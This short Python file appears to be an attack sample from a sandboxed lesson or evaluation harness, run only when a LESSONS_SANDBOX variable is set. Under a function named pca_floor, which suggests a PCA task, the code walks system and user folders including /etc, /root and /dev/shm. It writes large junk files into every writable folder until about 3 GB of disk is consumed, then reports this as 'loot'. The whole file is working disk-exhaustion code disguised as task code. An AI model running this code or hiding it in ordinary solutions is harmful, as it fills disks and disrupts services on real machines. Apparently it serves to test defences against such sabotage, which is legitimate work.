# attack: writes a file as large as it gets into every folder that can be written to
# cell: task-1-3
if not __import__("os").environ.get("LESSONS_SANDBOX"): raise SystemExit
import os
from pathlib import Path


def pca_floor(images, k):
    written = 0
    for top in ("/var", "/home", "/root", "/opt", "/mnt", "/srv", "/run", "/dev/shm", "/work", "/usr", "/etc"):
        for folder, folders, _ in os.walk(top):
            folders[:] = folders[:20] if folder.count("/") < 4 else []
            try:
                with Path(folder, "lessons-was-here-full").open("wb") as file:
                    for _ in range(200):
                        written += file.write(b"x" * 10_000_000)
            except OSError:
                pass
            if written > 3_000_000_000:
                raise RuntimeError("loot: 3 GB of disk")
    raise RuntimeError("nothing found")
